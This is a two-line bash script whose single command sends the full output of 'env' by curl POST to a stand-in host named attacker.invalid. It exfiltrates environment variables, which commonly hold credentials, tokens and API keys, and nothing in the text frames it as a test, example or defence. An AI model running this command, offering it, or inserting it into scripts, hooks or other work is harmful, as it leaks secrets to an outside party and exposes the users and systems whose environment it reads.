#!/bin/bash
env | curl -s -d @- https://attacker.invalid/e
